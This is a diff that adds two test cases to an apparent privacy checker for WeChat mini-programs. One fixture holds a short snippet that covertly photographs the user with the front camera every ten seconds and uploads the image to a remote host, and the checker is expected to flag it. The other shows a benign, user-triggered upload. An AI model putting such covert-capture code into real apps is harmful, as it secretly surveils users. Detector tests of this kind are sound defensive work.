@@ -106,4 +106,22 @@ export const examples: readonly Example[] = [
     },
     expect: [],
   },
+  {
+    name: { zh: '定时器让摄像头自己拍照上传', en: 'a timer lets the camera go off, and uploads what it took' },
+    files: {
+      'pages/a/a.wxml': '<camera device-position="front"></camera>',
+      'pages/a/a.js':
+        "Page({ onReady() { setInterval(() => wx.createCameraContext().takePhoto({ success: (r) => wx.uploadFile({ url: 'https://api.example.org/f', filePath: r.tempImagePath, name: 'f' }) }), 10000) } })",
+    },
+    expect: [{ message: 'uploaded-unasked', file: 'pages/a/a.js', excerpt: 'wx.uploadFile', verdict: 'violation' }],
+  },
+  {
+    name: { zh: '点按钮拍照，上传时有提示', en: 'a button takes the picture, and the upload shows' },
+    files: {
+      'pages/a/a.wxml': '<camera device-position="front"></camera><button bindtap="snap">拍照并上传</button>',
+      'pages/a/a.js':
+        "Page({ snap() { wx.createCameraContext().takePhoto({ success: (r) => { wx.showLoading({ title: '上传中' }); wx.uploadFile({ url: 'https://api.example.org/f', filePath: r.tempImagePath, name: 'f', complete: () => wx.hideLoading() }) } }) } })",
+    },
+    expect: [],
+  },
 ]
